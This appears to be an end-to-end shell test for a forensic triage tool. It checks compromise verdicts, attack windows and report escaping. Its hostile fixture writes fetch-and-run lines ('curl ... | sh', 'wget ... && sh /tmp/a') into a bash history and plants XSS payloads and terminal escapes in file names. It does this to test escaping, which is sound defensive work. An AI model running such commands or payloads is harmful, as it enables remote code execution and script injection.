#!/bin/sh
# t3900 - the triage's story: verdict, attack window, joined findings
# with their refs, next steps; text, JSON Lines and HTML (checked for
# injected markup with hostile names and history lines, and rendered in
# headless Chromium when it is installed).
. "${TOP:?}/tests/lib/e2e.sh"
. "$TOP/tests/lib/mkelf.sh"
demo=$IMG/demo.img

# -- the compromised demo server
rs triage --format json "$demo"
cp "$T/out" "$T/demo.json"
status "demo: triage exits 1" 1
check "demo: every JSON line parses" jq -e . "$T/demo.json" >/dev/null
check "demo: one verdict line, compromised, 3 to 5 facts" sh -c "jq -e -s \
    'map(select(.type == \"verdict\")) | length == 1 and
    .[0].verdict == \"compromised\" and (.[0].facts | length >= 3 and
    length <= 5) and (.[0].next | length > 0)' '$T/demo.json' >/dev/null"
# the attacker's logins: every login from an address that failed ten
# times first, and every login to a uid-0 account other than root
check "demo: one window covers the attacker's logins" sh -c "jq -e -s '
    (map(select(.type == \"window\"))) as \$w |
    (map(select(.kind == \"failed\" and .attempts >= 10) | .from)) as \$bf |
    (map(select(.kind == \"account\" and .uid == 0 and .user != \"root\")
    | .user)) as \$alias |
    [.[] | select((.kind == \"login\" and (.host as \$h | \$bf | index(\$h)))
    or (.kind == \"ssh_login\" and (.user as \$u | \$alias | index(\$u))))
    | (.start // .time)] as \$t |
    (\$t | length) >= 2 and (\$w | length) >= 1 and
    all(\$t[]; . as \$x | any(\$w[]; .start <= \$x and \$x <= .end))' \
    '$T/demo.json' >/dev/null"
check "demo: the unit-started dropped binary is one joined high finding" \
    sh -c "jq -e -s 'map(select(.check == \"story.implant\" and
    .severity == \"high\" and (.refs | map(.ref) | index(\"unit.temp_exec\"))
    and (.refs | map(.ref) | index(\"binaries.dropped_elf\"))
    and (.detail | test(\"created .*inside the attack window\"))
    and (.detail | test(\"no package installed it\")))) | length == 1' \
    '$T/demo.json' >/dev/null"
check "demo: joined refs point at findings that were reported" sh -c "jq -e -s '
    (map(select(.type == \"finding\" and .refs == null) |
    [.check, .path])) as \$f |
    all(.[] | select(.refs != null) | .refs[] | select(.ref | test(\"[.]\"));
    [.ref, .path] as \$r | \$f | index([\$r]))' '$T/demo.json' >/dev/null"
check "demo: one actor: the address in wtmp, cron and a history" sh -c "jq \
    -e -s 'map(select(.check == \"story.actor\" and (.refs | map(.ref) |
    (index(\"login\") and any(.[]; startswith(\"cron.\")) and
    any(.[]; startswith(\"history.\")))))) | length >= 1' '$T/demo.json' \
    >/dev/null"
check "demo: every record and finding line of before is still there" \
    sh -c "jq -e -s 'map(select(.type == \"record\")) | length > 50' \
    '$T/demo.json' >/dev/null"

rs triage "$demo"
cp "$T/out" "$T/demo.txt"
check "demo text: fits 80 columns" \
    sh -c "awk 'length > 80' '$T/demo.txt' | grep -q . && exit 1 || exit 0"
check "demo text: the verdict comes first" sh -c "sed -n 3p '$T/demo.txt' |
    grep -q '^== verdict: COMPROMISED'"
check "demo text: verdict, findings, window, next steps, details in order" \
    sh -c "grep -o '^== [a-z]*' '$T/demo.txt' | uniq | head -5 | tr '\n' ' ' |
    grep -qx '== verdict == findings == attack == next == details '"

rs triage --since 2026-11-20T08:00 --until 2026-11-20T09:00 --format json \
    "$demo"
check "demo --since/--until: the window is the one given" sh -c "jq -e -s '
    map(select(.type == \"window\")) | length == 1 and .[0].given and
    .[0].start == \"2026-11-20T08:00:00Z\"' '$T/out' >/dev/null"

# -- the clean server of t3400, built by its own lines
sed -n '/^umask 022/,/^sh "\$TOP\/scripts\/mkimage.sh"/p' \
    "$TOP/tests/e2e/t3400-clean-server.sh" >"$T/mkclean.sh"
(. "$TOP/tests/lib/clean-server.sh"; . "$T/mkclean.sh") >/dev/null 2>&1
if [ -f "$T/clean.img" ]; then
	rs triage --format json "$T/clean.img"
	cp "$T/out" "$T/clean.json"
	status "clean: triage exits 0" 0
	check "clean: verdict clean, no window" sh -c "jq -e -s '
	    (map(select(.type == \"verdict\")) | .[0].verdict == \"clean\") and
	    (map(select(.type == \"window\")) | length == 0) and
	    (map(select(.type == \"finding\" and (.severity == \"medium\" or
	    .severity == \"high\"))) | length == 0)' '$T/clean.json' >/dev/null"
	rs triage "$T/clean.img"
	check "clean text: CLEAN, 80 columns" sh -c "grep -q \
	    '^== verdict: CLEAN' '$T/out' && ! awk 'length > 80' '$T/out' |
	    grep -q ."
else
	not_ok "clean: the server of t3400 could be built"
fi

# -- hostile names and history lines, in a tree given as --root
h=$T/hostile
esc=$(printf '\033')
mkdir -p "$h/etc" "$h/root" "$h/tmp/<script>alert(1)" \
    "$h/var/tmp/.\"q'
n$esc[31m" "$h/var/log"
printf 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n' \
    >"$h/etc/os-release"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$h/etc/passwd"
printf 'x<img src=x onerror=alert(2)>\n' >"$h/etc/hostname"
{
	printf '#1795000000\ncurl http://203.0.113.66/<script>alert(1)</script> | sh\n'
	printf '#1795000010\necho "<b onmouseover=\x27alert(3)\x27>" \033[31mred\033[0m\n'
	printf '#1795000020\nwget http://203.0.113.66/\377\376<svg/onload=alert(4)> -O /tmp/a && sh /tmp/a\n'
} >"$h/root/.bash_history"
mkelf "$h/tmp/<script>alert(1)/x" "hostile one"
mkelf "$h/var/tmp/.\"q'
n$esc[31m/<iframe src=javascript:alert(5)>" "hostile two"
chmod 755 "$h/tmp/<script>alert(1)/x" "$h/var/tmp/.\"q'
n$esc[31m/<iframe src=javascript:alert(5)>"

rs --root "$h" triage --format html -o "$T/hostile.html"
check "hostile html: written" test -s "$T/hostile.html"
check "hostile html: well-formed" python3 - "$T/hostile.html" <<'EOF'
import html.parser, sys
VOID = {"meta", "link", "br", "input", "img", "hr", "wbr"}
SVG_EMPTY = {"line", "rect", "circle"}
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack = []
    def handle_starttag(self, tag, attrs):
        if tag not in VOID:
            self.stack.append(tag)
    def handle_startendtag(self, tag, attrs):
        pass
    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            sys.exit("mismatched </%s>, open: %s" % (tag, self.stack[-3:]))
        self.stack.pop()
data = open(sys.argv[1], "rb").read()
data.decode("utf-8")	# the report itself is valid UTF-8
p = P()
p.feed(data.decode("utf-8"))
p.close()
if p.stack:
    sys.exit("unclosed: %s" % p.stack)
EOF
check "hostile html: one <script>, ours; no injected element" sh -c "
    test \$(grep -oi '<script' '$T/hostile.html' | wc -l) -eq 1 &&
    ! grep -qi '<img\|<iframe\|<svg/\|<b ' '$T/hostile.html'"
check "hostile html: the hostile bytes are there, escaped" sh -c "
    grep -q '&lt;script&gt;alert(1)' '$T/hostile.html' &&
    grep -q '\\\\x1b\[31m' '$T/hostile.html' &&
    grep -q '\\\\xff\\\\xfe' '$T/hostile.html' &&
    ! grep -q \"\$(printf '\033')\" '$T/hostile.html'"
rs --root "$h" triage --format json
check "hostile json: every line parses" jq -e . "$T/out" >/dev/null
rs --root "$h" triage
check "hostile text: 80 columns, no raw escape" sh -c "
    ! awk 'length > 80' '$T/out' | grep -q . &&
    ! grep -q \"\$(printf '\033')\" '$T/out'"

# -- the demo's HTML report in a real browser
rs triage --format html -o "$T/demo.html" "$demo"
check "demo html: self-contained (no URL to fetch)" sh -c "
    ! grep -Eqi '(src|href)=\"(https?:)?//' '$T/demo.html' &&
    ! grep -qi '@import\|url(' '$T/demo.html'"
chromium=
for c in chromium chromium-browser; do
	command -v "$c" >/dev/null 2>&1 && chromium=$c && break
done
if [ -z "$chromium" ]; then
	echo "# SKIP chromium not installed: the HTML report is not rendered"
else
	for f in demo hostile; do
		timeout 60 "$chromium" --headless --disable-gpu --no-sandbox \
		    --user-data-dir="$T/chromium" --enable-logging=stderr --v=0 \
		    --dump-dom "file://$T/$f.html" >"$T/$f.dom" \
		    2>"$T/$f.chromium"
		check "$f html: loads in Chromium with no console message" \
		    sh -c "test -s '$T/$f.dom' &&
		    ! grep -q 'CONSOLE' '$T/$f.chromium'"
	done
	check "demo html: Chromium shows the verdict" sh -c "
	    grep -q 'data-verdict=\"compromised\"' '$T/demo.dom' &&
	    grep -q 'Verdict: Compromised' '$T/demo.dom'"
	check "hostile html: Chromium's DOM has no injected element" sh -c "
	    test \$(grep -oi '<script' '$T/hostile.dom' | wc -l) -eq 1 &&
	    ! grep -qi '<img\|<iframe\|<b ' '$T/hostile.dom'"
fi

finish
